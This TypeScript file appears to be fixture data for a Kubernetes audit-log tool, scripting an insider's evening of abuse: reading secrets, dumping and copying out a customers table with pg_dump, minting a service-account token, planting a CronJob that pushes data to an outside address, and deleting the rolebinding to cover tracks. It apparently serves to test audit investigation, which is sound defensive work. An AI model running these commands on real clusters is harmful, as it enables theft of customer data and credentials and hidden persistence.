/*
 * Copyright the Audit User contributors.
 * SPDX-License-Identifier: Apache-2.0
 */

import { toExecQuery } from './exec_query';
import { MINUTE } from './instants';
import { MAJA } from './persons';
import { refusedByAdmission, refusedByAuthorizer } from './response_status';
import type { ScriptedAsk, TimedAsk } from './script';
import { DATABASE, exec, get, list, STORY_NAMESPACE, STORY_PASSWORD } from './story_asks';

const MINUTE_MS = MINUTE / 1_000;

const TOOLBOX =
  '{"kind":"Pod","apiVersion":"v1","metadata":{"name":"toolbox","namespace":"payments"},"spec":{"containers":[{"name":"toolbox","image":"docker.io/library/alpine:3.21","securityContext":{"privileged":true}}]}}';
const CRONJOB =
  '{"kind":"CronJob","apiVersion":"batch/v1","metadata":{"name":"db-sync","namespace":"payments"},"spec":{"schedule":"17 1 * * *","jobTemplate":{"spec":{"template":{"spec":{"containers":[{"name":"db-sync","image":"harbor.example.com/storefront/tools:latest","args":["push","https://203.0.113.80/in"]}]}}}}}}';
const DEBUGGER =
  '{"spec":{"ephemeralContainers":[{"name":"debugger-x7k2p","image":"harbor.example.com/storefront/tools:latest","stdin":true,"tty":true,"targetContainerName":"payments-api"}]}}';

const createPod = (told: string, check: string): ScriptedAsk => ({
  verb: 'create',
  resource: 'pods',
  namespace: STORY_NAMESPACE,
  name: 'toolbox',
  query: 'fieldManager=kubectl-client-side-apply&fieldValidation=Strict',
  body: TOOLBOX,
  told,
  ends: (asked) => refusedByAdmission(asked, check),
});

/** The evening of the day itself, from another address, with the binding of that morning. */
export const EVENING: readonly TimedAsk[] = [
  ['17:54:11', list('secrets', 'lists the secrets, with their values')],
  ['17:54:40', get('secrets', 'payments-db-credentials', 'reads the password of the database')],
  ['17:55:02', get('secrets', 'payments-api-keys', 'reads the API keys')],
  ['17:55:30', get('configmaps', 'payments-config', 'reads the configuration')],
  ['17:56:08', list('pods', 'lists the pods')],
  ['17:58:21', exec(DATABASE, ['env'], 'runs env in the database pod', { durationMs: 310 })],
  [
    '18:01:44',
    exec(
      DATABASE,
      [
        'sh',
        '-c',
        `PGPASSWORD=${STORY_PASSWORD} pg_dump -h localhost -U payments --table=customers payments | gzip > /tmp/customers.sql.gz`,
      ],
      'dumps the customers table; the password stands in the arguments',
      { durationMs: 3 * MINUTE_MS + 4_120 }
    ),
  ],
  [
    '18:05:19',
    exec(DATABASE, ['ls', '-l', '/tmp/customers.sql.gz'], 'looks at the size of the dump', {
      durationMs: 190,
    }),
  ],
  [
    '18:06:33',
    exec(
      DATABASE,
      ['tar', 'cf', '-', '/tmp/customers.sql.gz'],
      'copies the dump out (kubectl cp is an exec of tar)',
      { durationMs: 47_800 }
    ),
  ],
  [
    '18:08:02',
    {
      verb: 'get',
      resource: 'pods',
      subresource: 'portforward',
      namespace: STORY_NAMESPACE,
      name: DATABASE,
      durationMs: 41 * MINUTE_MS,
      told: 'forwards a port to the database for 41 minutes; which port is logged nowhere',
    },
  ],
  [
    '18:12:40',
    exec(DATABASE, ['rm', '/tmp/customers.sql.gz'], 'removes the dump', { durationMs: 160 }),
  ],
  [
    '18:15:27',
    exec('payments-api-1', ['bash'], 'opens a shell of whose end the log holds nothing', {
      query: toExecQuery(['bash'], { container: 'payments-api', interactive: true }),
      durationMs: 'never_logged',
    }),
  ],
  [
    '18:22:05',
    createPod(
      'is refused a privileged pod by Pod Security',
      'violates PodSecurity "restricted:latest": privileged (container "toolbox" must not set securityContext.privileged=true), runAsNonRoot != true (pod or container "toolbox" must set securityContext.runAsNonRoot=true)'
    ),
  ],
  [
    '18:23:51',
    createPod(
      'is refused an image from outside by Gatekeeper',
      'admission webhook "validation.gatekeeper.sh" denied the request: [k8sallowedrepos] container <toolbox> has an invalid image repo <docker.io/library/alpine:3.21>, allowed repos are ["harbor.example.com/"]'
    ),
  ],
  [
    '18:26:14',
    {
      verb: 'patch',
      resource: 'pods',
      subresource: 'ephemeralcontainers',
      namespace: STORY_NAMESPACE,
      name: 'payments-api-1',
      body: DEBUGGER,
      told: 'puts a container into a running pod (kubectl debug)',
    },
  ],
  [
    '18:26:16',
    {
      verb: 'get',
      resource: 'pods',
      subresource: 'attach',
      namespace: STORY_NAMESPACE,
      name: 'payments-api-1',
      query: 'container=debugger-x7k2p&stdin=true&stdout=true&tty=true',
      durationMs: 6 * MINUTE_MS,
      told: 'works in that container for six minutes',
    },
  ],
  [
    '18:35:48',
    {
      verb: 'create',
      resource: 'serviceaccounts',
      subresource: 'token',
      namespace: STORY_NAMESPACE,
      name: 'payments-deployer',
      told: 'mints a token of the service account that deploys payments',
    },
  ],
  [
    '18:37:20',
    {
      verb: 'get',
      resource: 'pods',
      subresource: 'log',
      namespace: STORY_NAMESPACE,
      name: 'payments-worker-0',
      query: 'container=payments-worker&tailLines=500',
      durationMs: 240,
      told: 'reads the log of the worker',
    },
  ],
  [
    '18:41:09',
    {
      verb: 'create',
      resource: 'cronjobs.batch',
      namespace: STORY_NAMESPACE,
      name: 'db-sync',
      body: CRONJOB,
      query: 'fieldManager=kubectl-create',
      told: 'creates a CronJob that sends data to an address outside every night',
    },
  ],
  [
    '18:43:33',
    {
      verb: 'delete',
      resource: 'pods',
      namespace: STORY_NAMESPACE,
      name: 'payments-worker-0',
      told: 'deletes a pod of the worker',
    },
  ],
  [
    '18:47:02',
    {
      verb: 'list',
      resource: 'secrets',
      namespace: 'kube-system',
      query: 'limit=500',
      told: 'is refused to act as an administrator',
      ends: () =>
        refusedByAuthorizer({
          user: MAJA.email,
          verb: 'impersonate',
          resource: 'users',
          name: 'bjorn.hakansson@example.com',
        }),
    },
  ],
  [
    '18:52:16',
    {
      verb: 'delete',
      resource: 'rolebindings.rbac.authorization.k8s.io',
      namespace: STORY_NAMESPACE,
      name: 'payments-debug',
      told: 'deletes the binding that had let her do all this',
    },
  ],
  [
    '18:53:40',
    list('secrets', 'is refused the list of secrets again', { ends: refusedByAuthorizer }),
  ],
];
